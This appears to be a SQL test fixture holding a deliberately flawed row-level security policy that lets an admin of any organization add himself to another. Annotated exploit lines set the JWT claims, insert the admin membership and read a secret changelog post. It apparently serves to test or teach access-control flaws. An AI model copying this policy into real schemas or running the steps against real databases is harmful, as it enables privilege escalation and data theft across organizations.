-- An admin of one organization makes himself a member of another, since the check asks whether he is an
-- admin anywhere.
-- about: org_members, org_members_add
-- as: hf_wishlist_app
-- exploit: SET request.jwt.claims = '{"sub":"a1000000-0000-4000-8000-000000000001"}';
-- exploit: INSERT INTO org_members VALUES (2, auth.uid(), 'admin');
-- exploit: SELECT title FROM changelog_posts;
-- shows: Road-secret launch
-- Admins add colleagues without an invitation.
CREATE POLICY org_members_add ON org_members FOR INSERT WITH CHECK (
  EXISTS (SELECT 1 FROM org_members m WHERE m.user_id = auth.uid() AND m.role = 'admin')
);
GRANT INSERT ON org_members TO hf_wishlist_app;
